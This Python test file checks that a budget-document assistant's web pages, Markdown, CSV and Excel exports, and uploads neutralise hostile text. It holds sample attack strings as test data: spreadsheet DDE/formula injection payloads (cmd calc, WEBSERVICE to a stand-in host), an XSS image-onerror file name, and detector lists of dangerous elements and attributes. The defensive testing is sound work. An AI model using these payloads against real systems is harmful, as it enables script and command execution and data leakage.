"""Hostile text in documents, file names and questions, carried through every surface of the page.

First what the server sends: no text becomes an element, an attribute that runs, an address or a
formula.  Then a real browser takes it, without the policy that would stop scripts anyway: that
has a test of its own.
"""

import base64
import csv
import io
import json
import re
import zipfile
from xml.etree import ElementTree

import lxml.html
import openpyxl
import pytest
from fastapi.testclient import TestClient
from markdown_it import MarkdownIt

from assistant.engine import Assistant
from assistant.page.app import create_app
from assistant.page.limits import Limits, LimitSettings
from assistant.page.services import Services
from index.conversations import Conversations
from index.library import Library
from index.settings import Settings

AGENCY = "测试市档案局"
FORMULAS = (
    "=1+1",
    '=WEBSERVICE("http://example.invalid/"&A1)',
    '=HYPERLINK("http://example.invalid/","x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '＝HYPERLINK("http://example.invalid/")',
    "=cmd|'/C calc'!A0",
)
# No text may become one of these, and these are no part of what the page itself sends.
ELEMENTS = {
    "applet",
    "base",
    "embed",
    "frame",
    "iframe",
    "link",
    "marquee",
    "math",
    "meta",
    "object",
    "script",
    "style",
    "video",
}
ADDRESSES = {
    "action",
    "background",
    "cite",
    "data",
    "formaction",
    "href",
    "poster",
    "src",
    "xlink:href",
}
FORMULA = re.compile(r"[=+\-@\t\r＝＋－＠]")
NUMBER = re.compile(r"[+-]?[\d,.]+%?")


def faults(html):
    """What in some HTML runs, loads or leads away."""
    found = []
    for element in lxml.html.fragment_fromstring(html, create_parent="main").iter():
        if not isinstance(element.tag, str):
            continue
        tag = element.tag.lower()
        if tag in ELEMENTS:
            found.append(lxml.html.tostring(element, encoding="unicode")[:200])
        for name, value in element.attrib.items():
            name = name.lower()
            runs = name.startswith("on") or name == "srcdoc"
            leads = name in ADDRESSES and re.match(r"\s*([a-z][a-z0-9+.-]*:|//)", value, re.I)
            if runs or leads or (name == "style" and re.search(r"url|expression|@import", value)):
                found.append(f"<{tag} {name}={value!r}>")
    return found


def workbook_faults(data):
    """Formulas with words in them, and links to elsewhere, in an Excel file."""
    found = []
    for sheet in openpyxl.load_workbook(io.BytesIO(data)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                # Computed values are formulas over cells: no function that leads out, no text.
                if cell.data_type == "f" and re.search(
                    r"[\"|]|HYPERLINK|WEBSERVICE|cmd", str(cell.value)
                ):
                    found.append(f"{sheet.title}!{cell.coordinate}: {cell.value}")
    with zipfile.ZipFile(io.BytesIO(data)) as parts:
        for name in parts.namelist():
            if name.endswith(".rels"):
                for link in ElementTree.fromstring(parts.read(name)):
                    if "example.invalid" in link.get("Target", "") or "javascript" in link.get(
                        "Target", ""
                    ):
                        found.append(f"{name}: {link.get('Target')}")
    return found


def csv_faults(text):
    """Fields that a spreadsheet program would take for a formula."""
    rows = csv.reader(io.StringIO(text.removeprefix("\ufeff")))
    fields = (field for row in rows for field in row)
    return [f for f in fields if FORMULA.match(f) and not NUMBER.fullmatch(f)]


def markdown_faults(text):
    """What runs, loads or leads away once Markdown is shown, raw HTML let through."""
    html = MarkdownIt("commonmark", {"html": True}).enable("table").render(text)
    return [fault for fault in faults(html) if "127.0.0.1" not in fault]


def publication(texts):
    """A budget in Markdown whose labels, headings and paragraphs are the texts."""
    rows = "\n".join(f"{text}\t{n}.5" for n, text in enumerate(texts, 1))
    paragraphs = "\n\n".join(
        f"{text} 公务接待费{n}.5万元。{text}" for n, text in enumerate(texts, 1)
    )
    headings = "\n\n".join(f"## {text}\n\n说明。" for text in texts)
    return (
        f"# {AGENCY}2026年部门预算\n\n## 一、部门收支预算总表{texts[0]}\n\n单位：万元\n\n"
        f"项目{texts[1]}\t预算数{texts[2]}\n公务接待费\t0.77\n{rows}\n\n{headings}\n\n"
        f"## 二、情况说明\n\n{paragraphs}\n\n"
        f"{AGENCY}2026年公务接待费0.77万元{texts[0]}{texts[1]}。\n"
    )


def sheet(texts, columns=("项目", "预算数")):
    """A workbook with a text a row."""
    book = openpyxl.Workbook()
    page = book.active
    page.append([f"{AGENCY}2026年部门预算"])
    page.append(["单位：万元"])
    page.append(list(columns))
    for number, text in enumerate(texts, 1):
        page.append(["x", number + 0.25])
        cell = page.cell(page.max_row, 1)
        cell.value, cell.data_type = text, "s"
    made = io.BytesIO()
    book.save(made)
    return made.getvalue()


@pytest.fixture(scope="module")
def texts(all_hostile_texts):
    return [text.replace("\x00", "") for text in (*all_hostile_texts, *FORMULAS)]


@pytest.fixture(scope="module")
def home(tmp_path_factory, texts):
    """A library whose documents are full of hostile text, in their names too."""
    folder = tmp_path_factory.mktemp("hostile")
    names = [
        '<img src=x onerror="window.hit=1">2026年部门预算.md',
        "=HYPERLINK('x')2026年部门预算.xlsx",
    ]
    (folder / names[0]).write_text(publication(texts), "utf-8")
    (folder / names[1]).write_bytes(sheet(texts))
    with Library(Settings(folder / "home", embedding_model="none", workers=1)) as library:
        for name in names:
            assert library.add(folder / name).status == "added"
    return folder / "home"


@pytest.fixture(scope="module")
def library(home):
    with Library(Settings(home, embedding_model="none", workers=1)) as library:
        yield library


@pytest.fixture(scope="module")
def services(library, tmp_path_factory):
    conversations = Conversations(tmp_path_factory.mktemp("kept") / "conversations.sqlite")
    unlimited = Limits(LimitSettings(per_minute=0, per_minute_of_address=0))
    yield Services(Assistant(library), library, conversations, limits=unlimited)
    conversations.close()


@pytest.fixture(scope="module")
def client(services):
    """The administrator on the machine itself."""
    local = {"base_url": "http://127.0.0.1", "client": ("127.0.0.1", 50000)}
    with TestClient(create_app(services), **local) as client:
        yield client


def get(client, address, **parameters):
    response = client.get(address, params=parameters)
    assert response.status_code == 200, (address, response.text[:200])
    return response


@pytest.fixture(scope="module")
def talk(client, texts):
    """A conversation of hostile questions: its name, and the HTML of each answer."""
    name, told = "", []
    asked = [q for text in texts for q in (text, f"{AGENCY}2026年{text}预算是多少")]
    for question in [f"{AGENCY}2026年公务接待费是多少", *asked]:
        sent = client.post("/chat/ask", json={"question": question, "conversation": name})
        assert sent.status_code == 200, sent.text
        name = sent.json()["conversation"]
        told.append(sent.json())
    return name, told


def test_the_judges_see_what_is_hostile(texts):
    seen = [text for text in texts if faults(f"<p>{text}</p>")]
    assert len(seen) >= 9
    assert faults("<a href=' javascript:x'>") and faults("<a href='//example.invalid'>")
    assert not faults("<a href='#x'>x</a><a href='originals/1'>x</a>")
    assert markdown_faults(texts[9]) + markdown_faults("[x](javascript:alert(1)) <b onclick=x>")
    for text in FORMULAS:
        assert csv_faults('"' + text.replace('"', '""') + '"')
    assert not csv_faults("-1.5,+2%,'=1+1,a=b")


def test_answers_and_what_opens_from_them(client, talk):
    name, told = talk
    assert sum(answer["status"] == "answered" for answer in told) > len(told) // 4
    for answer in told:
        assert faults(answer["html"]) == []
    assert faults(get(client, f"/chat/{name}").text) == []
    for answer in told[:12]:
        turn = answer["turn"]
        for source in range(answer["sources"]):
            assert faults(get(client, f"/evidence/turn/{name}/{turn}/c{source}").text) == []
        assert faults(get(client, f"/chat/{name}/{turn}/suggestions").text) == []
        if answer["status"] == "answered":
            assert faults(get(client, f"/chat/{name}/{turn}/understood").text) == []
        form = get(client, f"/feedback/{name}/{turn}/form", rating="down")
        assert faults(form.text) == []


def test_conversations_and_their_exports(client, talk, texts):
    name, _ = talk
    for text in texts:
        renamed = client.post(f"/conversations/{name}/rename", json={"title": text})
        assert renamed.status_code in (200, 422)
        assert faults(get(client, "/conversations").text) == []
    assert markdown_faults(get(client, f"/conversations/{name}/export.md").text) == []
    assert workbook_faults(get(client, f"/conversations/{name}/export.xlsx").content) == []


def test_the_figure_desk_and_its_exports(client, library, texts):
    assert faults(get(client, "/screens/figures").text) == []
    for query in [{}, *({"q": text} for text in texts), *({"table": text} for text in texts)]:
        response = client.get("/figures/search", params=query)
        assert response.status_code in (200, 400, 422)
        assert [part for part in map(faults, response.json().values()) if part] == []
    assert csv_faults(get(client, "/figures/export.csv").text) == []
    assert workbook_faults(get(client, "/figures/export.xlsx").content) == []
    figures = get(client, "/figures/search").json()
    for key in set(re.findall(r"evidence/figure/(\d+)", " ".join(figures.values()))):
        assert faults(get(client, f"/evidence/figure/{key}").text) == []


def test_the_comparison_of_documents_and_its_exports(client, library):
    both = {"doc": [document.name for document in library.documents()]}
    for part in get(client, "/figures/compare", **both).json().values():
        assert faults(part) == []
    assert csv_faults(get(client, "/figures/compared.csv", **both).text) == []
    assert workbook_faults(get(client, "/figures/compared.xlsx", **both).content) == []


def test_the_library(client, library, texts):
    assert faults(get(client, "/screens/library").text) == []
    for text in texts:
        assert faults(get(client, "/library/list", search=text).text) == []
    for document in library.documents():
        assert faults(get(client, f"/library/documents/{document.id}").text) == []
        for table in library.tables(document.name):
            assert faults(get(client, f"/library/tables/{table.id}").text) == []
        original = get(client, f"/originals/{document.id}")
        assert original.headers["content-disposition"].startswith("attachment")
        assert original.headers["x-content-type-options"] == "nosniff"
        assert "html" not in original.headers["content-type"]


def test_uploads_by_their_names_and_what_is_wrong_with_them(client, texts):
    hostile = [text.replace("/", "") + ".pdf" for text in texts]
    sent = client.post("/library/uploads", files=[("files", (name, b"x")) for name in hostile])
    assert sent.status_code == 200, sent.text
    listed = get(client, "/library/jobs").json()

    def strings(value):
        if isinstance(value, str):
            yield value
        elif isinstance(value, dict | list):
            for part in value.values() if isinstance(value, dict) else value:
                yield from strings(part)

    assert [found for found in map(faults, strings(listed)) if found] == []


def test_the_check_of_texts_and_its_exports(client, texts):
    assert faults(get(client, "/screens/check").text) == []
    text = "\n".join(f"{AGENCY}2026年{t}公务接待费0.{n}万元，{t}。" for n, t in enumerate(texts))
    shown = client.post("/check/text", json={"text": text}).json()
    assert [found for found in map(faults, shown.values()) if found] == []
    name = texts[1].replace("/", "") + ".md"
    of_file = client.post("/check/file", files={"file": (name, text.encode())}).json()
    assert [found for key in ("note", "html") if (found := faults(of_file[key]))] == []
    told = client.post("/check/file", files={"file": (name, b"\x00\x01")})
    assert told.headers["content-type"] == "application/json"
    as_markdown = client.post("/check/export.md", json={"text": text}).text
    assert markdown_faults(as_markdown) == []
    assert workbook_faults(client.post("/check/export.xlsx", json={"text": text}).content) == []


def test_a_workbook_of_questions_comes_back_without_formulas(client, texts):
    questions = sheet([f"{AGENCY}2026年{text}是多少" for text in texts] + texts, ("问题", "备注"))
    lines = client.post("/check/batch", files={"file": ("=1+1.xlsx", questions)}).text.splitlines()
    last = json.loads(lines[-1])
    assert "file" in last, last
    assert workbook_faults(base64.b64decode(last["file"])) == []


def test_the_interface_for_programs_gives_json_that_no_browser_takes_for_a_page(client, texts):
    for text in texts:
        sent = client.post("/gradio_api/run/find_figure", json={"item": text[:200]})
        assert sent.status_code in (200, 422)
        assert sent.headers["content-type"].startswith("application/json")
        assert sent.headers["x-content-type-options"] == "nosniff"


PARTS = (
    "conversations",
    "screens/figures",
    "screens/check",
    "screens/library",
    "screens/masthead",
    "chat/welcome",
    "library/documents/1",
    "library/documents/2",
    "library/tables/1",
)


def test_nothing_runs_in_a_browser_that_would_let_it(chromium, running, services, texts):
    foreign, dialogs = [], []
    with running(create_app(services)) as address:
        context = chromium.new_context(bypass_csp=True, locale="zh-CN", service_workers="block")
        page = context.new_page()
        page.on(
            "request",
            lambda r: r.url.startswith((address, "data:", "blob:")) or foreign.append(r.url),
        )
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        page.goto(address)
        page.locator(".welcome").wait_for()
        box = page.locator("#question textarea")
        for number, text in enumerate(
            [f"{AGENCY}2026年公务接待费是多少", *texts[:8], *FORMULAS[:2]]
        ):
            box.fill(text)
            page.keyboard.press("Enter")
            page.locator(".turn .answer").nth(number).wait_for()
        page.locator(".turn .citation").first.click()
        page.locator("#evidence-title").wait_for()
        # All else that the server sends, put into the page as its scripts do.
        for part in PARTS:
            shown = page.evaluate(
                """async (part) => {
                    const response = await fetch(part);
                    document.querySelector('#figures .slot').innerHTML = await response.text();
                    return response.status;
                }""",
                part,
            )
            assert shown == 200, part
        for query in [{}, *({"q": text} for text in texts)]:
            page.evaluate(
                """async (query) => {
                    const response = await fetch('figures/search?' + new URLSearchParams(query));
                    for (const part of Object.values(await response.json())) {
                        document.querySelector('#figures .slot').innerHTML = part;
                    }
                }""",
                query,
            )
        page.evaluate(
            """async (text) => {
                const headers = {'Content-Type': 'application/json'};
                const body = JSON.stringify({text});
                const sent = await fetch('check/text', {method: 'POST', headers, body});
                for (const part of Object.values(await sent.json())) {
                    document.querySelector('#check .slot').innerHTML = part;
                }
            }""",
            "\n".join(f"{text}公务接待费0.{n}万元" for n, text in enumerate(texts)),
        )
        page.wait_for_timeout(500)
        hit = page.evaluate("window.hit ?? null")
        elements = page.locator(".turns :is(script, iframe, a[href^='javascript'], base)").count()
        context.close()
    assert (hit, elements, foreign, dialogs) == (None, 0, [], [])


def test_the_browser_itself_stops_what_was_taken_for_markup(visit, all_hostile_texts):
    page = visit()
    page.evaluate(
        """(texts) => {
            for (const text of texts) document.querySelector('#figures .slot').innerHTML += text;
            const script = document.createElement('script');
            script.textContent = 'window.hit = 1';
            document.body.append(script);
        }""",
        [text for text in all_hostile_texts if "example.invalid" not in text],
    )
    page.wait_for_timeout(300)
    assert page.evaluate("window.hit ?? null") is None
